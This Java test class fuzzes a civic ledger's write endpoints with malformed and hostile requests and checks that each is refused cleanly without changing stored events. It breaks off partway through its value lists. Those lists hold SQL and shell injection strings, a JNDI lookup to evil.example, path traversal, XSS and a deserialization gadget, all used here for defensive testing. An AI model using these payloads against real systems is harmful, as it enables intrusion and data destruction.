package org.civicledger.ops.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.regex.Matcher;
import org.civicledger.ops.support.ApiCredentials;
import org.civicledger.ops.support.ApiCredentials.Actor;
import org.civicledger.query.security.DevelopmentIssuer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * Sends a few thousand malformed, oversized and injection-laden requests to every write endpoint of the
 * whole ledger over real HTTP, and holds it to this: no answer is a 5xx; every refusal the ledger makes
 * is an {@code application/problem+json} without a stack trace, naming the field where one is at fault
 * and never repeating submitted personal data; the event store is exactly as it was (count and highest
 * global index); and no idempotency record is kept for a request refused before it reached the ledger.
 *
 * <p>The endpoints are every POST mapping under {@code /api/v1} that Spring MVC knows, so a new endpoint is
 * fuzzed without being listed. A known endpoint gets a base request that is valid but refused by a rule of
 * the ledger (an unknown target, a duplicate), so that a mutation which happens to stay valid still
 * changes nothing; an endpoint not yet listed gets an empty object and unknown targets. Everything is
 * deterministic from {@link #SEED}.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
public abstract class HostileInputFuzzContract {

    static final long SEED = 20_251_126L;
    /** Field mutations drawn per endpoint, on top of the structural cases every endpoint gets. */
    static final int FIELD_MUTATIONS_PER_ENDPOINT = 48;
    static final String UNKNOWN_CASE = "5b0c6f2e-0000-4000-8000-00000000f422";
    /** A valid national ID the ledger holds nothing of (the setup case uses another). */
    static final String STRANGER_NATIONAL_ID = "B123456780";
    static final List<String> PERSONAL_FIELDS = List.of("nationalId", "name", "email", "phone", "casePassword");

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    DevelopmentIssuer issuer;
    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();
    final ObjectMapper json = new ObjectMapper();
    final List<String> failures = new ArrayList<>();
    final Set<String> keysRefusedBeforeLedger = new HashSet<>();
    final Map<String, Integer> sentPerEndpoint = new TreeMap<>();
    final Map<Integer, Integer> statuses = new TreeMap<>();
    final Map<Actor, Map<String, String>> credentials = new LinkedHashMap<>();
    Random random;
    int keySequence;
    String submittedCase;

    /**
     * One write endpoint: its pattern, the concrete path fuzzed, who sends, whether it reads a body, its base
     * body, and the field naming the target where the base is refused because the target exists (or is
     * the only one held): that field only gets values that are never valid, lest a mutation create a target.
     */
    record Endpoint(String pattern, String path, Actor actor, boolean readsBody, String body, String targetField) {
        Endpoint(String pattern, String path, Actor actor, boolean readsBody, String body) {
            this(pattern, path, actor, readsBody, body, null);
        }
    }

    /** One hostile value: raw JSON text, whether every field must refuse it, and whether it is personal-data-like. */
    record Hostile(String name, String rawJson, boolean mustRefuse) {
    }

    /** What was sent, to judge the answer: the JSON path mutated (if one), a secret that must not come back. */
    record Sent(String endpoint, String what, String field, boolean mustRefuse, String secret, boolean containerMayAnswer) {
    }

    record Answer(int status, String contentType, String body) {
    }

    // ---- set-up: the targets the base requests are refused about ----

    @BeforeAll
    void referenceDataAndOneCase() throws Exception {
        post(Actor.OPERATOR, "/api/v1/reference/agencies", "{\"agencyCode\": \"DBU\", \"name\": \"Department of Building Use\"}", 201);
        post(Actor.OPERATOR, "/api/v1/reference/case-types", """
                {"caseTypeCode": "BUILDING-PERMIT", "agencyCode": "DBU", "name": "Building permit",
                 "requiredDocuments": ["ID_COPY"], "fee": {"amountMinor": 250, "currency": "TWD"}, "statutoryProcessingDays": 10}""", 201);
        post(Actor.OPERATOR, "/api/v1/reference/calendar/2030", """
                {"holidays": [{"date": "2030-01-01", "name": "New Year"}], "makeUpWorkdays": [], "source": "test"}""", 201);
        JsonNode submitted = json.readTree(post(Actor.CITIZEN, "/api/v1/cases", submission("BUILDING-PERMIT", "A123456789"), 201).body());
        submittedCase = submitted.get("caseId").asText();
        // The applicant's account is enrolled, so enrolling their national ID under another account is refused (409).
        post(Actor.OPERATOR, "/api/v1/citizen-accounts", "{\"citizenSubject\": \"citizen-1\", \"nationalId\": \"A123456789\"}", 200);
    }

    static String submission(String caseType, String nationalId) {
        return """
                {"caseTypeCode": "%s",
                 "applicant": {"citizenSubject": "citizen-1", "nationalId": "%s", "name": "Lin Mei-hua", "email": "mei@example.org",
                               "phone": "0912345678"},
                 "documents": [{"kind": "ID_COPY", "uri": "mydoc://documents/1"}]}""".formatted(caseType, nationalId);
    }

    /** The base request of each known endpoint: valid, and refused by the ledger (so it leaves no event). */
    Endpoint baseOf(String pattern, boolean readsBody) {
        String reason = "{\"reason\": \"documents checked\"}";
        String path = pattern.replace("{caseId}", UNKNOWN_CASE).replace("{agencyCode}", "NO-SUCH-AGENCY")
                .replace("{caseTypeCode}", "NO-SUCH-TYPE");
        return switch (pattern) {
            case "/api/v1/cases" -> new Endpoint(pattern, path, Actor.CITIZEN, true, submission("NO-SUCH-TYPE", STRANGER_NATIONAL_ID));
            case "/api/v1/cases/{caseId}/accept", "/api/v1/cases/{caseId}/review" -> new Endpoint(pattern, path, Actor.OFFICER, readsBody, "");
            case "/api/v1/cases/{caseId}/supplement-requests" -> new Endpoint(pattern, path, Actor.OFFICER, true,
                    "{\"reason\": \"the copy is unreadable\", \"requestedDocuments\": [\"ID_COPY\"]}");
            case "/api/v1/cases/{caseId}/supplements" -> new Endpoint(pattern, path, Actor.CITIZEN, true,
                    "{\"documents\": [{\"kind\": \"ID_COPY\", \"uri\": \"mydoc://documents/2\"}]}");
            case "/api/v1/cases/{caseId}/extension" -> new Endpoint(pattern, path, Actor.OFFICER, true,
                    "{\"extraWorkingDays\": 5, \"notice\": \"a site visit is needed\"}");
            case "/api/v1/cases/{caseId}/withdraw" -> new Endpoint(pattern, path, Actor.CITIZEN, true, reason);
            case "/api/v1/cases/{caseId}/transfer" -> new Endpoint(pattern, path, Actor.OFFICER, true,
                    "{\"toAgencyCode\": \"DBU\", \"reason\": \"wrong agency\"}");
            case "/api/v1/reference/agencies" -> new Endpoint(pattern, path, Actor.OPERATOR, true,
                    "{\"agencyCode\": \"DBU\", \"name\": \"Department of Building Use\"}", "agencyCode");
            case "/api/v1/reference/agencies/{agencyCode}/renames" -> new Endpoint(pattern, path, Actor.OPERATOR, true,
                    "{\"name\": \"Building Office\", \"reason\": \"reorganisation\"}");
            case "/api/v1/reference/case-types" -> new Endpoint(pattern, path, Actor.OPERATOR, true, """
                    {"caseTypeCode": "BUILDING-PERMIT", "agencyCode": "DBU", "name": "Building permit",
                     "requiredDocuments": ["ID_COPY"], "fee": {"amountMinor": 250, "currency": "TWD"}, "statutoryProcessingDays": 10}""",
                    "caseTypeCode");
            case "/api/v1/reference/case-types/{caseTypeCode}/revisions" -> new Endpoint(pattern, path, Actor.OPERATOR, true, """
                    {"name": "Building permit", "requiredDocuments": ["ID_COPY"], "fee": {"amountMinor": 300, "currency": "TWD"},
                     "statutoryProcessingDays": 12, "reason": "new fee schedule"}""");
            case "/api/v1/reference/calendar/{year}" -> new Endpoint(pattern, pattern.replace("{year}", "2030"), Actor.OPERATOR, true,
                    "{\"holidays\": [{\"date\": \"2030-02-01\", \"name\": \"Lunar New Year\"}], \"makeUpWorkdays\": [\"2030-02-09\"],"
                            + " \"source\": \"DGPA 2030\"}");
            case "/api/v1/reference/calendar/{year}/holidays" -> new Endpoint(pattern, pattern.replace("{year}", "2031"), Actor.OPERATOR,
                    true, "{\"date\": \"2031-07-01\", \"name\": \"Typhoon day\", \"reason\": \"typhoon warning\"}");
            case "/api/v1/privacy/erasures" -> new Endpoint(pattern, path, Actor.OPERATOR, true,
                    "{\"nationalId\": \"" + STRANGER_NATIONAL_ID + "\", \"reason\": \"request 2030-17\"}", "nationalId");
            // Publishing a checkpoint reads no body and cannot fail for an operator; sent by a citizen it is
            // refused by the access rules, which is the refusal this endpoint has.
            case "/api/v1/integrity/checkpoints" -> new Endpoint(pattern, path, Actor.CITIZEN, readsBody, "");
            case "/api/v1/bills" -> new Endpoint(pattern, path, Actor.OFFICER, true, """
                    {"feeClassCode": "NO-SUCH-FEE", "payer": {"citizenSubject": "citizen-1", "nationalId": "%s", "name": "Lin Mei-hua"},
                     "amount": {"amountMinor": 250, "currency": "TWD"}, "dueOn": "2030-12-31",
                     "reference": {"kind": "FINE_TICKET", "id": "T-1"}}""".formatted(STRANGER_NATIONAL_ID));
            case "/api/v1/bills/{billId}/amendments" -> new Endpoint(pattern, pattern.replace("{billId}", "no-such-bill"), Actor.OFFICER, true,
                    "{\"amount\": {\"amountMinor\": 300, \"currency\": \"TWD\"}, \"dueOn\": \"2030-12-31\", \"reason\": \"corrected\"}");
            case "/api/v1/bills/{billId}/cancel" -> new Endpoint(pattern, pattern.replace("{billId}", "no-such-bill"), Actor.OFFICER, true,
                    "{\"reason\": \"issued in error\"}");
            case "/api/v1/payments" -> new Endpoint(pattern, path, Actor.CITIZEN, true,
                    "{\"billIds\": [\"no-such-bill\"], \"providerCode\": \"NO-SUCH-PROVIDER\", \"channel\": \"atm\"}");
            case "/api/v1/payments/{paymentId}/refunds" -> new Endpoint(pattern, pattern.replace("{paymentId}", "no-such-payment"),
                    Actor.OFFICER, true, "{\"amount\": {\"amountMinor\": 100, \"currency\": \"TWD\"}, \"reason\": \"fee reduced\"}");
            // A grant for an agency the officer is not of: refused by the grant's rule (403), nothing recorded.
            case "/api/v1/grants" -> new Endpoint(pattern, path, Actor.OFFICER, true, """
                    {"agencyCode": "NO-SUCH-AGENCY", "programCode": "RIDES",
                     "beneficiary": {"citizenSubject": "citizen-1", "nationalId": "%s", "name": "Lin Mei-hua"},
                     "amount": {"amountMinor": 8000, "currency": "TWD"}, "perUseCap": {"amountMinor": 250, "currency": "TWD"},
                     "expiresAt": "2030-12-31T16:00:00Z"}""".formatted(STRANGER_NATIONAL_ID));
            case "/api/v1/grants/{grantId}/uses" -> new Endpoint(pattern, pattern.replace("{grantId}", "no-such-grant"), Actor.CITIZEN, true,
                    "{\"amount\": {\"amountMinor\": 100, \"currency\": \"TWD\"}, \"providerCode\": \"NO-SUCH-PROVIDER\", \"channel\": \"app\","
                            + " \"purpose\": \"ride to the clinic\"}");
            case "/api/v1/grants/{grantId}/revoke" -> new Endpoint(pattern, pattern.replace("{grantId}", "no-such-grant"), Actor.OFFICER, true,
                    "{\"reason\": \"awarded in error\"}");
            // No bearer token is needed here (the credentials are ignored); an unknown provider is refused before any signature check.
            case "/api/v1/providers/{code}/callbacks" -> new Endpoint(pattern, pattern.replace("{code}", "NO-SUCH-PROVIDER"), Actor.CITIZEN,
                    true, "{\"providerEventId\": \"evt-1\", \"paymentId\": \"no-such-payment\", \"status\": \"succeeded\","
                            + " \"amount\": \"250\", \"currency\": \"TWD\", \"occurredAt\": \"2030-01-01T00:00:00Z\"}");
            // A well-formed settlement file of a provider that does not exist: refused with 404 before it is read.
            case "/api/v1/providers/{code}/settlements" -> new Endpoint(pattern, pattern.replace("{code}", "NO-SUCH-PROVIDER"),
                    Actor.OPERATOR, true, "record_type,provider_code,settlement_date,provider_transaction_id,type,payment_id,ledger_reference,"
                            + "amount_minor,currency,fee_minor,transacted_at\nT,NO-SUCH-PROVIDER,2030-01-01,0,0,0,TWD\n");
            case "/api/v1/providers/{code}/settlements/{settlementId}/discrepancies/{discrepancyId}/resolution" -> new Endpoint(pattern,
                    "/api/v1/providers/NO-SUCH-PROVIDER/settlements/stl-none/discrepancies/d1/resolution", Actor.OPERATOR, true,
                    "{\"resolution\": \"adjust_clearing\", \"reason\": \"provider confirmed the amount\"}");
            // An operator's rebuild of a processor that does not exist: refused with 404, nothing is reset.
            case "/api/v1/ops/processors/{name}/rebuild" -> new Endpoint(pattern, pattern.replace("{name}", "no-such-processor"),
                    Actor.OPERATOR, readsBody, "");
            case "/api/v1/receipts" -> new Endpoint(pattern, path, Actor.OFFICER, true, """
                    {"feeClassCode": "NO-SUCH-FEE", "payer": {"nationalId": "%s", "name": "Lin Mei-hua"},
                     "amount": {"amountMinor": 250, "currency": "TWD"}, "paymentReference": "CASH-1"}""".formatted(STRANGER_NATIONAL_ID));
            case "/api/v1/receipts/{receiptId}/void", "/api/v1/receipts/{receiptId}/reissue" -> new Endpoint(pattern,
                    pattern.replace("{receiptId}", "no-such-receipt"), Actor.OFFICER, true, "{\"reason\": \"issued in error\"}");
            case "/api/v1/citizen-accounts" -> new Endpoint(pattern, path, Actor.OPERATOR, true,
                    "{\"citizenSubject\": \"citizen-2\", \"nationalId\": \"A123456789\"}", "nationalId");
            // Documents: a registration for an agency the officer is not of (403); the other document endpoints take the default.
            case "/api/v1/documents" -> new Endpoint(pattern, path, Actor.OFFICER, true,
                    "{\"contentBase64\": \"ZnV6eg==\", \"sha256\": \"93850b707585e404e4951a3ddc1f05a34b3d4f5fc081d616f46d8a2e8f1c8e68\", \"kind\": \"NOTICE\", \"title\": \"Fuzz\", \"agencyCode\": \"NO-SUCH-AGENCY\"}",
                    "agencyCode");
            // Keys are kept by their signers and operators: sent by an auditor the URL rules refuse them (no fields, few cases).
            case "/api/v1/signing-keys", "/api/v1/signing-keys/{subject}/keys/{keyId}/revoke" -> new Endpoint(pattern,
                    path.replace("{subject}", "citizen-1").replace("{keyId}", "00000000000000000000000000000000"),
                    new Actor("auditor-1", org.civicledger.events.common.Role.AUDITOR, null), readsBody, "{}");
            // Rotating the key of an agency that is not registered is refused by the keyring (404), no body read.
            case "/api/v1/signing-keys/agencies/{agencyCode}/rotations" -> new Endpoint(pattern, path, Actor.OPERATOR, readsBody, "");
            case "/api/v1/case-status/lookup" -> new Endpoint(pattern, path, Actor.CITIZEN, true,
                    "{\"caseNumber\": \"CN-2030-000001\", \"casePassword\": \"not-the-password\"}");
            default -> pattern.matches("/api/v1/cases/\\{caseId}/(approve|reject|close)")
                    ? new Endpoint(pattern, path, Actor.OFFICER, true, reason)
                    // Not listed yet: fuzzed all the same, as an operator, with unknown targets and an empty object.
                    : new Endpoint(pattern, path.replaceAll("\\{[^}]+}", "zz-unknown"), Actor.OPERATOR, readsBody, "{}");
        };
    }

    List<Endpoint> writeEndpoints() {
        List<Endpoint> endpoints = new ArrayList<>();
        for (Map.Entry<RequestMappingInfo, HandlerMethod> mapping : mappings.getHandlerMethods().entrySet()) {
            RequestMappingInfo info = mapping.getKey();
            if (!info.getMethodsCondition().getMethods().contains(RequestMethod.POST)) {
                continue;
            }
            boolean readsBody = Arrays.stream(mapping.getValue().getMethodParameters())
                    .anyMatch(parameter -> parameter.hasParameterAnnotation(RequestBody.class));
            for (String pattern : info.getPatternValues()) {
                if (pattern.startsWith("/api/v1/")) {
                    endpoints.add(baseOf(pattern, readsBody));
                }
            }
        }
        endpoints.sort((a, b) -> a.pattern().compareTo(b.pattern()));
        return endpoints;
    }

    // ---- the test ----

    @Test
    void hostile_input_gets_4xx_problems_and_changes_nothing() throws Exception {
        failures.clear();
        List<Endpoint> endpoints = writeEndpoints();
        assertThat(endpoints).extracting(Endpoint::pattern).contains("/api/v1/cases", "/api/v1/cases/{caseId}/approve",
                "/api/v1/reference/case-types", "/api/v1/privacy/erasures");
        long eventsBefore = eventCount();
        Long lastBefore = lastGlobalIndex();
        int keysBefore = idempotencyRows();

        long started = System.nanoTime();
        for (Endpoint endpoint : endpoints) {
            random = new Random(SEED ^ endpoint.pattern().hashCode());
            fuzz(endpoint);
        }
        long elapsedMs = (System.nanoTime() - started) / 1_000_000;
        int total = sentPerEndpoint.values().stream().mapToInt(Integer::intValue).sum();
        System.out.printf(Locale.ROOT, "%nHostile input fuzz on %s: %d requests to %d endpoints in %d ms; per endpoint %s; statuses %s%n",
                getClass().getSimpleName(), total, endpoints.size(), elapsedMs, sentPerEndpoint, statuses);

        assertThat(failures).as("answers that broke the rules (%d of %d)", failures.size(), total).isEmpty();
        assertThat(eventCount()).as("events in the store").isEqualTo(eventsBefore);
        assertThat(lastGlobalIndex()).as("highest global index").isEqualTo(lastBefore);
        List<String> kept = jdbc.queryForList("SELECT idempotency_key FROM idempotency_key", String.class);
        assertThat(kept).as("idempotency records of requests refused before the ledger").doesNotContainAnyElementsOf(keysRefusedBeforeLedger);
        System.out.printf(Locale.ROOT, "Idempotency records added: %d (answers of requests the ledger refused by a rule); "
                + "none of the %d refused before the ledger%n", idempotencyRows() - keysBefore, keysRefusedBeforeLedger.size());
        assertThat(total).isBetween(1_500, 7_000);
    }

    @Test
    void valid_requests_refused_by_a_rule_leave_no_event() throws Exception {
        failures.clear();
        long eventsBefore = eventCount();
        Long lastBefore = lastGlobalIndex();
        random = new Random(SEED);
        for (Endpoint endpoint : writeEndpoints()) {
            for (int i = 0; i < 2; i++) {
                Answer answer = send(endpoint, endpoint.path(), endpoint.body(), Map.of(), new Sent(endpoint.pattern(), "base", null, false,
                        null, false));
                assertThat(answer.status()).as(endpoint.pattern() + " " + answer.body()).isIn(403, 404, 409, 422, 429);
            }
        }
        // A real case in a state that refuses the step: approval before review, acceptance by a citizen.
        Endpoint approve = new Endpoint("approve", "/api/v1/cases/" + submittedCase + "/approve", Actor.OFFICER, true, "{\"reason\": \"ok\"}");
        assertThat(send(approve, approve.path(), approve.body(), Map.of(), new Sent("approve", "state", null, false, null, false))
                .status()).isEqualTo(409);
        Endpoint accept = new Endpoint("accept", "/api/v1/cases/" + submittedCase + "/accept", Actor.CITIZEN, false, "");
        assertThat(send(accept, accept.path(), "", Map.of(), new Sent("accept", "forbidden", null, false, null, false)).status())
                .isEqualTo(403);
        assertThat(failures).isEmpty();
        assertThat(eventCount()).isEqualTo(eventsBefore);
        assertThat(lastGlobalIndex()).isEqualTo(lastBefore);
    }

    // ---- what is sent ----

    void fuzz(Endpoint endpoint) throws Exception {
        String base = endpoint.body();
        String name = endpoint.pattern();
        Map<String, String> none = Map.of();
        // Malformed JSON.
        List<String> malformed = new ArrayList<>(List.of("", " ", "{", "}", "[", "{]", "[}", "{\"a\"}", "{\"a\":}", "{,}", "nul", "null",
                "true", "123", "\"text\"", "[]", "{}", "[{}]", "{\"\":\"\"}", "{'single': 'quotes'}", "{a: 1}", "/* comment */ {}",
                "{\"a\": NaN}", "{\"a\": Infinity}", "{\"a\": 0x10}", "{\"a\": 01}", "{\"a\": 1.}", "{\"a\": .5}", "{\"a\": \"\\x41\"}",
                "{\"a\": \"unterminated}", "\uFEFF{}", "{}}", "{}{}", "{} []", "[1,]", "{\"a\":1,}"));
        if (!base.isEmpty()) {
            malformed.add(base.substring(0, base.length() / 2));
            malformed.add(base.substring(0, base.length() - 1));
            malformed.add(base + "garbage");
            malformed.add(base + "}");
            malformed.add(base + base);
            malformed.add("[" + base + "]");
            malformed.add(base.replaceFirst("\\{", "["));
            malformed.add(base.replace(":", "="));
            malformed.add(base.replace("\"", "'"));
            malformed.add(base.replaceFirst("\\{", "{\"unknownField\": 1, "));
            malformed.add(base.replaceFirst("\\{", "{\"__proto__\": {\"admin\": true}, "));
            malformed.add(base.replaceFirst("\\{", "{\"@class\": \"java.lang.ProcessBuilder\", "));
            String firstKey = firstKey(base);
            if (firstKey != null) {
                malformed.add(base.replaceFirst("\\{", "{\"" + firstKey + "\": null, "));
            }
        }
        for (String body : malformed) {
            send(endpoint, endpoint.path(), body, none, new Sent(name, "malformed", null, false, null, false));
        }
        // Deep nesting, huge strings and numbers.
        send(endpoint, endpoint.path(), "[".repeat(10_000) + "]".repeat(10_000), none, new Sent(name, "deep arrays", null, false, null, false));
        send(endpoint, endpoint.path(), "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000), none,
                new Sent(name, "deep objects", null, false, null, false));
        send(endpoint, endpoint.path(), "[" + "{\"a\":[".repeat(3_000) + "]}".repeat(3_000) + "]", none,
                new Sent(name, "deep mixed", null, false, null, false));
        send(endpoint, endpoint.path(), "{\"a\": \"" + "x".repeat(60_000) + "\"}", none, new Sent(name, "huge string", null, false, null, false));
        send(endpoint, endpoint.path(), "{\"a\": 1" + "0".repeat(50_000) + "}", none, new Sent(name, "huge number", null, false, null, false));
        send(endpoint, endpoint.path(), "{\"" + "k".repeat(50_000) + "\": 1}", none, new Sent(name, "huge name", null, false, null, false));
        send(endpoint, endpoint.path(), "[" + "1,".repeat(30_000) + "1]", none, new Sent(name, "many tokens", null, false, null, false));
        // Oversized bodies: with a Content-Length, without one (chunked), and a Content-Length far beyond what is sent.
        String oversized = "{\"a\": \"" + "y".repeat(70_000) + "\"}";
        send(endpoint, endpoint.path(), oversized, none, new Sent(name, "oversized", null, false, null, false));
        sendChunked(endpoint, oversized.getBytes(StandardCharsets.UTF_8), new Sent(name, "oversized chunked", null, false, null, false));
        sendChunked(endpoint, base.getBytes(StandardCharsets.UTF_8), new Sent(name, "chunked", null, false, null, false));
        sendRaw(endpoint, "POST", endpoint.path(), Map.of("Content-Type", "application/json", "Content-Length", "1000000000000"),
                "{}".getBytes(StandardCharsets.UTF_8), new Sent(name, "lying Content-Length", null, false, null, false));
        // Invalid UTF-8, random bytes, NUL bytes.
        for (byte[] bytes : List.of(new byte[] {(byte) 0xC3, (byte) 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80},
                new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {0})) {
            sendBytes(endpoint, insertInString(base, bytes), "application/json", new Sent(name, "invalid UTF-8", null, false, null, false));
        }
        for (int i = 0; i < 6; i++) {
            byte[] noise = new byte[1 + random.nextInt(2_000)];
            random.nextBytes(noise);
            sendBytes(endpoint, noise, "application/json", new Sent(name, "random bytes", null, false, null, false));
        }
        sendBytes(endpoint, new byte[] {0, 0, 0, '{', 0, 0, 0, '}'}, "application/json", new Sent(name, "UTF-32-ish", null, false, null, false));
        sendBytes(endpoint, base.getBytes(StandardCharsets.UTF_16LE), "application/json", new Sent(name, "UTF-16 body", null, false, null, false));
        // Wrong content types and charsets.
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "application/json; charset=UTF-16", "application/json; charset=nonsense", "application/json; charset=", "*/*",
                "application/*", "application/json-patch+json", "application/octet-stream", "json", ";;;", "application/json; a=\"")) {
            sendBytes(endpoint, base.getBytes(StandardCharsets.UTF_8), type, new Sent(name, "content type " + type, null, false, null, false));
        }
        sendRaw(endpoint, "POST", endpoint.path(), Map.of(), base.getBytes(StandardCharsets.UTF_8),
                new Sent(name, "no content type", null, false, null, false));
        // Wrong methods.
        for (String method : List.of("PUT", "PATCH", "DELETE", "GET", "HEAD", "OPTIONS")) {
            sendMethod(endpoint, method, base, new Sent(name, "method " + method, null, false, null, false));
        }
        sendRaw(endpoint, "TRACE", endpoint.path(), Map.of(), new byte[0], new Sent(name, "method TRACE", null, false, null, true));
        sendRaw(endpoint, "FOO", endpoint.path(), Map.of(), new byte[0], new Sent(name, "method FOO", null, false, null, true));
        // Headers: oversized, hostile Idempotency-Key and X-Channel values.
        // Over a raw socket, written whole before reading: Tomcat answers 400 and closes while parsing the headers, and
        // an HTTP client still streaming them may see a broken pipe instead of the answer (it did once in CI).
        byte[] baseBytes = base.getBytes(StandardCharsets.UTF_8);
        sendRaw(endpoint, "POST", endpoint.path(), Map.of("Content-Type", "application/json", "X-Padding", "p".repeat(20_000)),
                baseBytes, new Sent(name, "oversized header", null, false, null, true));
        sendRaw(endpoint, "POST", endpoint.path(), Map.of("Content-Type", "application/json", "X-Padding", "p".repeat(7_000),
                "X-Padding-2", "q".repeat(7_000), "X-Padding-3", "r".repeat(7_000)), baseBytes,
                new Sent(name, "oversized headers", null, false, null, true));
        for (String channel : List.of("web'; DROP TABLE x;--", "W".repeat(5_000), "${jndi:ldap://x/a}", "counter\u00e9")) {
            send(endpoint, endpoint.path(), base, Map.of("X-Channel", channel), new Sent(name, "X-Channel", null, false, null, false));
        }
        // Printable ones are valid keys: made unique, so that each is one request's key.
        for (String key : List.of("k".repeat(129), " ", "key\u00e9", "../../etc/passwd-" + nextKey(), "${7*7}-" + nextKey())) {
            send(endpoint, endpoint.path(), base, Map.of("Idempotency-Key", key), new Sent(name, "Idempotency-Key", null, false, null, false));
        }
        sendRaw(endpoint, "POST", endpoint.path(), withCredentials(endpoint, Map.of("Content-Type", "application/json",
                "X-Channel", "web\u0000\u001b[2J")), base.getBytes(StandardCharsets.UTF_8),
                new Sent(name, "control characters in a header", null, false, null, true));
        // Hostile path variables.
        if (endpoint.pattern().contains("{")) {
            for (String value : List.of("..%2F..%2Fetc%2Fpasswd", "..", "%2e%2e", "%00", "a%20b", "%ZZ", "x".repeat(5_000),
                    "%E2%80%AE" + "txt", "%C3%A9", "1;DROP%20TABLE%20x", "%F0%9F%92%A9", "a;jsessionid=1", "%25", "-1", "99999999999999999999")) {
                String path = endpoint.pattern().replaceAll("\\{[^}]+}", Matcher.quoteReplacement(value));
                sendRaw(endpoint, "POST", path, withCredentials(endpoint, Map.of("Content-Type", "application/json")),
                        base.getBytes(StandardCharsets.UTF_8), new Sent(name, "path " + value, null, false, null, true));
            }
        }
        // Field by field: wrong types, nulls, caps, hostile text.
        if (endpoint.readsBody() && base.startsWith("{")) {
            JsonNode tree = json.readTree(base);
            List<String> paths = new ArrayList<>();
            collectPaths(tree, "", paths);
            List<Hostile> values = hostileValues();
            List<Hostile> neverValid = values.stream().filter(Hostile::mustRefuse).toList();
            for (int i = 0; i < FIELD_MUTATIONS_PER_ENDPOINT && !paths.isEmpty(); i++) {
                String path = paths.get(random.nextInt(paths.size()));
                List<Hostile> candidates = path.equals(endpoint.targetField()) ? neverValid : values;
                Hostile value = candidates.get(random.nextInt(candidates.size()));
                String body = replaceAt(tree, path, value.rawJson());
                String leaf = path.replaceAll(".*[.\\]]", "").replaceAll("\\[.*", "");
                String secret = PERSONAL_FIELDS.contains(leaf) && value.rawJson().length() > 8 ? value.rawJson() : null;
                send(endpoint, endpoint.path(), body, Map.of(), new Sent(name, value.name() + " at " + path, path, value.mustRefuse(),
                        secret, false));
            }
        }
    }

    static List<Hostile> hostileValues() {
        List<Hostile> values = new ArrayList<>();
        // Wrong types and edge numbers: invalid for some fields, valid for others.
        for (String raw : List.of("null", "12", "-1", "0", "1.5", "1.0", "-0", "1e309", "9223372036854775808", "-9223372036854775809",
                "2147483648", "true", "false", "[]", "{}", "[1,2]", "{\"a\":1}", "[null]", "[{}]", "\"\"", "\" \"", "\"12\"", "\"true\"",
                "\"2030-02-30\"", "\"0000-01-01\"", "\"+10000-01-01\"", "\"TWD\"", "\"twd\"")) {
            values.add(new Hostile("value " + raw, raw, false));
        }
        // Injection strings: text a free-text field may take; codes and IDs must refuse them.
        for (String text : List.of("' OR '1'='1", "1; DROP TABLE domainevententry; --", "\\\"; DELETE FROM idempotency_key; --",
                "<script>alert(1)</script>", "javascript:alert(1)", "\\\" onmouseover=\\\"alert(1)", "$(rm -rf /)", "`id`", "| cat /etc/passwd",
                "*)(uid=*))(|(uid=*", "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "../../../../etc/passwd",
                "..\\\\..\\\\windows\\\\win.ini", "file:///etc/passwd", "%00", "%s%s%s%n", "A123456789", "mei@example.org",
                "\u0410\u0412\u0421", "p\u0430ypal", "\u202e", "\u200b", "\uFEFF", "\u0627\u0644\u0627\u0633\u0645",
                "e\u0301\u0301\u0301\u0301", "\ud83d\ude00", "\u00e9", "Lin Mei")) {
            values.add(new Hostile("text " + text, "\"" + text + "\"", false));
        }
        // Always refused: control characters, NUL, unpaired surrogates, noncharacters, bidi overrides, huge or deep.
        for (String raw : List.of("\"a\\u0000b\"", "\"\\u0000\"", "\"a\\u0007b\"", "\"a\\u001b[31mb\"", "\"a\\u007fb\"", "\"a\\u0085b\"",
                "\"a\\ud800b\"", "\"\\udfff\"", "\"a\\ud83d\"", "\"a\\uffffb\"", "\"a\\ufffeb\"", "\"a\\ufdd0b\"",
                "\"a\\u202eb\"", "\"a\\u2066b\"", "\"" + "x".repeat(20_000) + "\"", "\"" + "\u00e9".repeat(17_000) + "\"",
                "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]")) {
            values.add(new Hostile("refused " + (raw.length() > 20 ? raw.substring(0, 20) + "…" : raw), raw, true));
        }
        // Over every field's cap, though under the reader's string limit: refused by validation, or by type.
